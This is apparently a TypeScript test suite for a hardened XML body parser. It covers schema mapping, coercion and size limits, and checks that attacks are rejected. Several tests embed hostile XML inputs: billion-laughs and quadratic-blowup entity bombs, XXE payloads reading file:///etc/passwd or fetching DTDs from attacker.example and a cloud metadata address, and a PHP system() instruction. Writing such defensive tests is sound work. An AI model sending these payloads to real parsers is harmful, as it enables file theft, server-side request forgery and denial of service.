import { test } from 'node:test';
import assert from 'node:assert/strict';
import { parseXmlBody, type XmlFailureReason, type XmlLimits, type XmlParse } from './xml-body.js';

const limits: XmlLimits = { maxDepth: 32, maxNodes: 10_000, maxTextBytes: 1_000_000 };

function value(text: string, schema?: unknown, custom: XmlLimits = limits): unknown {
  const result = parseXmlBody(text, schema, custom);
  assert.ok(result.ok, `expected success, got ${JSON.stringify(result)}`);
  return result.value;
}

function failure(text: string, reason: XmlFailureReason, schema?: unknown, custom: XmlLimits = limits): string {
  const result = parseXmlBody(text, schema, custom);
  assert.equal(result.ok, false, `expected ${reason}, got ${JSON.stringify(result)}`);
  assert.ok(!result.ok);
  assert.equal(result.reason, reason, result.problem);
  return result.problem;
}

/** Runs a parse and checks it finished quickly: proof that nothing was expanded. */
function fast(text: string): XmlParse {
  const started = performance.now();
  const result = parseXmlBody(text, undefined, limits);
  assert.ok(performance.now() - started < 250, 'took too long: something was expanded');
  return result;
}

const userSchema = {
  type: 'object',
  xml: { name: 'user' },
  properties: {
    id: { type: 'integer', xml: { attribute: true } },
    lang: { type: 'string', xml: { attribute: true, name: 'xml-lang' } },
    name: { type: 'string' },
    address: {
      type: 'object',
      properties: { city: { type: 'string' }, zip: { type: 'string' }, primary: { type: 'boolean', xml: { attribute: true } } },
    },
  },
};

test('object: attributes, renamed attributes and nested objects', () => {
  const xml = `<?xml version="1.0" encoding="UTF-8"?>
<user id="42" xml-lang="en">
  <name> Ann Smith </name>
  <address primary="true"><city>Oslo</city><zip>0150</zip></address>
</user>`;
  assert.deepEqual(value(xml, userSchema), {
    id: 42,
    lang: 'en',
    name: ' Ann Smith ',
    address: { primary: true, city: 'Oslo', zip: '0150' },
  });
  // A self-closing element for an object schema is an empty object; text alone stays a string.
  assert.deepEqual(value('<user/>', userSchema), {});
  assert.equal(value('<user>bob</user>', userSchema), 'bob');
});

test('root xml.name is enforced; the problem names the expected element only', () => {
  const problem = failure('<admin><name>x</name></admin>', 'malformed', userSchema);
  assert.match(problem, /<user>/);
  assert.doesNotMatch(problem, /admin/);
  // Without xml.name the root name is free.
  assert.deepEqual(value('<whatever><a>1</a></whatever>', { type: 'object', properties: { a: { type: 'integer' } } }), { a: 1 });
  // oneOf branches each name their element: either is accepted.
  const pet = { oneOf: [{ type: 'object', xml: { name: 'cat' }, properties: { lives: { type: 'integer' } } }, { type: 'object', xml: { name: 'dog' } }] };
  assert.deepEqual(value('<dog><lives>9</lives></dog>', pet), { lives: 9 });
  failure('<cow/>', 'malformed', pet);
});

test('undeclared children and attributes are kept; xmlns declarations are not; repeats become arrays', () => {
  const schema = { type: 'object', additionalProperties: false, properties: { name: { type: 'string' }, role: { type: 'string' } } };
  assert.deepEqual(
    value('<u xmlns="urn:a" xmlns:x="urn:b" x:isAdmin="true"><name>a</name><perm><level>9</level></perm>mixed</u>', schema),
    { isAdmin: 'true', name: 'a', perm: { level: '9' }, '#text': 'mixed' },
  );
  // Parameter pollution: two <role> for a single string must not silently pick one.
  assert.deepEqual(value('<u><role>user</role><role>admin</role></u>', schema), { role: ['user', 'admin'] });
});

test('namespaces: prefixes are ignored and properties match local names', () => {
  const schema = {
    type: 'object',
    xml: { name: 'order', prefix: 'o', namespace: 'urn:orders' },
    properties: { id: { type: 'integer', xml: { attribute: true } }, total: { type: 'number' } },
  };
  assert.deepEqual(value('<o:order xmlns:o="urn:orders" o:id="7"><o:total>9.5</o:total></o:order>', schema), { id: 7, total: 9.5 });
  assert.deepEqual(value('<p:order p:id="8"><total>1</total></p:order>', schema), { id: 8, total: 1 });
});

test('arrays: unwrapped by default, named by items.xml.name or the property', () => {
  const schema = {
    type: 'object',
    properties: {
      animals: { type: 'array', xml: { name: 'ignored-when-unwrapped' }, items: { type: 'string', xml: { name: 'animal' } } },
      ids: { type: 'array', items: { type: 'integer' } },
      other: { type: 'string' },
    },
  };
  assert.deepEqual(
    value('<zoo><animal>cat</animal><other>x</other><animal>dog</animal><ids>1</ids><ids>2</ids></zoo>', schema),
    { animals: ['cat', 'dog'], other: 'x', ids: [1, 2] },
  );
  // A single element is still a one-item array.
  assert.deepEqual(value('<zoo><animal>cat</animal></zoo>', schema), { animals: ['cat'] });
});

test('arrays: wrapped, with names from xml.name (OAS 3.1.0 XML arrays examples)', () => {
  const schema = {
    type: 'object',
    properties: {
      animals: { type: 'array', xml: { name: 'aliens', wrapped: true }, items: { type: 'string', xml: { name: 'animal' } } },
      tags: { type: 'array', xml: { wrapped: true }, items: { type: 'object', properties: { weight: { type: 'number' } } } },
    },
  };
  assert.deepEqual(
    value('<zoo><aliens><animal>cat</animal><animal>dog</animal></aliens><tags><tags><weight>1.5</weight></tags><t><weight>2</weight></t></tags></zoo>', schema),
    { animals: ['cat', 'dog'], tags: [{ weight: 1.5 }, { weight: 2 }] },
  );
  assert.deepEqual(value('<zoo><aliens/></zoo>', schema), { animals: [] });
  assert.deepEqual(value('<zoo><aliens><animal>one</animal></aliens></zoo>', schema), { animals: ['one'] });
  // A root array schema: the root is the wrapper.
  assert.deepEqual(value('<list><n>1</n><n>2</n></list>', { type: 'array', items: { type: 'integer' } }), [1, 2]);
  // Text or attributes on a wrapper cannot be part of an array: kept as an object the validator rejects.
  assert.deepEqual(value('<zoo><aliens n="2"><animal>cat</animal></aliens></zoo>', schema), { animals: { n: '2', animal: 'cat' } });
});

test('xml.name renames elements; the value uses the property name', () => {
  const schema = {
    type: 'object',
    properties: { fullName: { type: 'string', xml: { name: 'full-name' } }, age: { type: 'integer', xml: { name: 'years' } } },
  };
  assert.deepEqual(value('<p><full-name>Ann</full-name><years>30</years></p>', schema), { fullName: 'Ann', age: 30 });
});

test('primitives: number/integer/boolean coercion, invalid values left as strings, nullable', () => {
  const schema = {
    type: 'object',
    properties: {
      i: { type: 'integer' },
      n: { type: 'number' },
      b: { type: 'boolean' },
      s: { type: 'string' },
      ni: { type: ['integer', 'null'] },
      nb: { type: 'boolean', nullable: true },
      e: { enum: [1, 2] },
    },
  };
  assert.deepEqual(value('<r><i> 42 </i><n>-4.5e1</n><b>false</b><s> 007 </s><ni>5</ni><nb>true</nb><e>2</e></r>', schema), {
    i: 42, n: -45, b: false, s: ' 007 ', ni: 5, nb: true, e: 2,
  });
  // Not JSON literals: left for the validator to reject.
  assert.deepEqual(value('<r><i>0x10</i><n>12abc</n><b>TRUE</b><e>two</e></r>', schema), { i: '0x10', n: '12abc', b: 'TRUE', e: 'two' });
  assert.deepEqual(value('<r><n>1e400</n><i>1.5</i><b>1</b><n>NaN</n></r>', schema), { n: ['1e400', 'NaN'], i: 1.5, b: '1' });
  // Empty elements: '' for non-string types, null where null is allowed.
  assert.deepEqual(value('<r><i/><s></s><ni/><nb> </nb></r>', schema), { i: '', s: '', ni: null, nb: null });
  // A primitive with structure stays structured, so `type: integer` fails.
  assert.deepEqual(value('<r><i unit="s">5</i></r>', schema), { i: { unit: 's', '#text': '5' } });
});

test('allOf merges properties; oneOf/anyOf contribute the union of their properties', () => {
  const base = { type: 'object', properties: { id: { type: 'integer', xml: { attribute: true } } } };
  const schema = {
    allOf: [base, { properties: { name: { type: 'string' } } }],
    oneOf: [{ properties: { meow: { type: 'boolean' } } }, { anyOf: [{ properties: { bark: { type: 'integer' } } }] }],
  };
  assert.deepEqual(value('<pet id="3"><name>Rex</name><meow>true</meow><bark>2</bark></pet>', schema), { id: 3, name: 'Rex', meow: true, bark: 2 });
});

test('schema-less conversion', () => {
  assert.equal(value('<a>just text</a>'), 'just text');
  assert.equal(value('<a/>'), '');
  assert.deepEqual(value('<a x="1"><b>2</b><b>3</b><c><d>4</d></c>tail <![CDATA[<raw>]]></a>'), {
    x: '1', b: ['2', '3'], c: { d: '4' }, '#text': 'tail <raw>',
  });
  assert.deepEqual(value('<a><b>1</b></a>', {}), { b: '1' });
  assert.deepEqual(value('<a><b>1</b></a>', true), { b: '1' });
});

test('names from the document cannot pollute prototypes (CWE-1321)', () => {
  const result = value('<a __proto__="x"><__proto__><polluted>yes</polluted></__proto__><constructor>c</constructor></a>') as Record<string, unknown>;
  assert.equal(Object.getPrototypeOf(result), Object.prototype);
  assert.deepEqual(Object.keys(result), ['__proto__', 'constructor']);
  assert.deepEqual(Object.getOwnPropertyDescriptor(result, '__proto__')?.value, ['x', { polluted: 'yes' }]);
  assert.equal((Object.prototype as Record<string, unknown>).polluted, undefined);
});

test('recursive (cyclic) schemas terminate', () => {
  const node: Record<string, unknown> = { type: 'object', xml: { name: 'node' }, properties: { name: { type: 'string' } } };
  (node.properties as Record<string, unknown>).children = { type: 'array', xml: { wrapped: true }, items: node };
  (node.properties as Record<string, unknown>).self = node;
  const composed: Record<string, unknown> = { type: 'object', properties: { n: { type: 'integer' } } };
  composed.allOf = [composed, { anyOf: [composed] }];
  (composed.properties as Record<string, unknown>).next = composed;
  assert.deepEqual(
    value('<node><name>a</name><children><node><name>b</name><children><node><name>c</name></node></children></node></children></node>', node),
    { name: 'a', children: [{ name: 'b', children: [{ name: 'c' }] }] },
  );
  assert.deepEqual(value('<x><n>1</n><next><n>2</n><next><n>3</n></next></next></x>', composed), { n: 1, next: { n: 2, next: { n: 3 } } });
  // The document depth limit bounds a walk along a cycle.
  const deep = `${'<self>'.repeat(40)}${'</self>'.repeat(40)}`;
  failure(`<node>${deep}</node>`, 'depth', node);
});

test('unicode text and character references', () => {
  assert.equal(value('<a>Zoë — 日本語 😀</a>'), 'Zoë — 日本語 😀');
  assert.equal(value('<a>&#65;&#x42;&#x1F600; &lt;&gt;&amp;&quot;&apos;</a>'), 'AB😀 <>&"\'');
  assert.deepEqual(value('<a b="&#65;&amp;"/>'), { b: 'A&' });
  assert.equal(value('<a>\u00a0</a>', { type: 'object' }), '\u00a0');
});

test('billion laughs is refused as a DOCTYPE, without expansion', () => {
  const entities = ['<!ENTITY lol "lol">'];
  for (let level = 1; level <= 9; level += 1) {
    const previous = level === 1 ? 'lol' : `lol${level - 1}`;
    entities.push(`<!ENTITY lol${level} "${`&${previous};`.repeat(10)}">`);
  }
  const xml = `<?xml version="1.0"?>\n<!DOCTYPE lolz [\n ${entities.join('\n ')}\n]>\n<lolz>&lol9;</lolz>`;
  const result = fast(xml);
  assert.ok(!result.ok);
  assert.equal(result.reason, 'doctype');
  assert.match(result.problem, /line 2/);
});

test('quadratic blowup is refused without expansion', () => {
  const xml = `<!DOCTYPE kaboom [<!ENTITY a "${'a'.repeat(50_000)}">]><kaboom>${'&a;'.repeat(50_000)}</kaboom>`;
  const result = fast(xml);
  assert.ok(!result.ok);
  assert.equal(result.reason, 'doctype');
});

test('XXE, parameter entities and external DTDs are refused', () => {
  const cases = [
    '<?xml version="1.0"?><!DOCTYPE foo [<!ENTITY xxe SYSTEM "file:///etc/passwd">]><foo>&xxe;</foo>',
    '<!DOCTYPE foo [<!ENTITY % pe SYSTEM "http://169.254.169.254/evil.dtd"> %pe;]><foo/>',
    '<!DOCTYPE foo [<!ENTITY % a "<!ENTITY b \'x\'>"> %a;]><foo>&b;</foo>',
    '<!DOCTYPE foo SYSTEM "http://attacker.example/evil.dtd"><foo>hi</foo>',
    '<!DOCTYPE foo PUBLIC "-//X//Y" "http://attacker.example/evil.dtd"><foo/>',
    '<!DOCTYPE foo><foo/>',
    '<foo/><!DOCTYPE foo>',
  ];
  for (const xml of cases) {
    const result = fast(xml);
    assert.ok(!result.ok, xml);
    assert.equal(result.reason, 'doctype', xml);
    assert.doesNotMatch(result.problem, /passwd|attacker|169\.254/);
  }
});

test('entity declarations outside a DOCTYPE and undefined entities are refused', () => {
  failure('<a><!ENTITY x "y"></a>', 'entity');
  failure('<a/><!-- <!ENTITY x "y"> -->', 'entity');
  const problem = failure('<a>&xxe;</a>', 'entity');
  assert.match(problem, /undefined entity/);
  failure('<a b="&secret;"/>', 'entity');
  failure('<a>&#0;</a>', 'entity');
});

test('processing instructions are refused; the XML declaration is fine', () => {
  failure('<?xml-stylesheet type="text/xsl" href="http://x/evil.xsl"?><a/>', 'processing-instruction');
  failure('<a><?php system("id"); ?></a>', 'processing-instruction');
  assert.equal(value('<?xml version="1.0" encoding="UTF-8" standalone="yes"?><a>x</a>'), 'x');
  assert.equal(value('\uFEFF<a>bom</a>'), 'bom');
});

test('depth limit, checked while streaming', () => {
  const small = { ...limits, maxDepth: 3 };
  assert.deepEqual(value('<a><b><c/></b></a>', undefined, small), { b: { c: '' } });
  assert.match(failure('<a><b><c><d/></c></b></a>', 'depth', undefined, small), /deeper than 3/);
  // A million open tags stop at the limit, long before the end of the (unclosed) document.
  const hostile = '<a>'.repeat(1_000_000);
  const started = performance.now();
  failure(hostile, 'depth', undefined, small);
  assert.ok(performance.now() - started < 250);
});

test('node and text limits', () => {
  const nodes = { ...limits, maxNodes: 3 };
  assert.deepEqual(value('<a b="1"><c/></a>', undefined, nodes), { b: '1', c: '' });
  assert.match(failure('<a b="1"><c/><d/></a>', 'size', undefined, nodes), /more than 3 elements and attributes/);
  failure('<a b="1" c="2" d="3"/>', 'size', undefined, nodes);
  failure(`<a>${'<b/>'.repeat(1_000_000)}</a>`, 'size', undefined, nodes);

  const text = { ...limits, maxTextBytes: 5 };
  assert.equal(value('<a>abcde</a>', undefined, text), 'abcde');
  failure('<a>abcdef</a>', 'size', undefined, text);
  failure('<a b="abc"><c>def</c></a>', 'size', undefined, text);
  failure('<a><![CDATA[abcdef]]></a>', 'size', undefined, text);
});

test('malformed documents; problems never echo document content', () => {
  const cases = [
    '',
    '   ',
    'secret',
    '<secretRoot>',
    '<secretRoot><secretChild></secretRoot>',
    '<secretOne/><secretTwo/>',
    'secret<a/>',
    '<a/>secret',
    '<a secret="1" secret="2"/>',
    '<a>AT&T</a>',
    '<a><</a>',
    '<a>]]></a>',
    ' <?xml version="1.0"?><a/>',
    '<a b=secret/>',
    '<a>\u0001</a>',
  ];
  for (const xml of cases) {
    const result = parseXmlBody(xml, undefined, limits);
    assert.equal(result.ok, false, JSON.stringify(xml));
    assert.ok(!result.ok);
    assert.ok(['malformed', 'entity'].includes(result.reason), `${JSON.stringify(xml)}: ${result.reason}`);
    assert.doesNotMatch(result.problem, /secret|AT/, result.problem);
    assert.match(result.problem, /line \d+, column \d+/);
  }
  assert.equal(parseXmlBody(42 as unknown as string, undefined, limits).ok, false);
});

test('never throws: truncations and random mutations of a document', () => {
  const xml = '<?xml version="1.0"?><user id="1" xmlns:p="urn:x"><p:name>A&amp;B</p:name><tags><t>1</t></tags><![CDATA[x]]><!-- c --></user>';
  let seed = 7;
  const random = (): number => {
    seed = (seed * 1_103_515_245 + 12_345) % 2_147_483_648;
    return seed / 2_147_483_648;
  };
  const alphabet = '<>/&;="\' !?[]-#x:aZ0\n';
  const inputs = Array.from({ length: xml.length }, (_, end) => xml.slice(0, end));
  for (let round = 0; round < 2_000; round += 1) {
    const chars = [...xml];
    for (let edit = 0; edit < 3; edit += 1) chars[Math.floor(random() * chars.length)] = alphabet[Math.floor(random() * alphabet.length)]!;
    inputs.push(chars.join(''));
  }
  for (const input of inputs) {
    const result = parseXmlBody(input, userSchema, { maxDepth: 4, maxNodes: 20, maxTextBytes: 100 });
    assert.equal(typeof result.ok, 'boolean');
  }
});
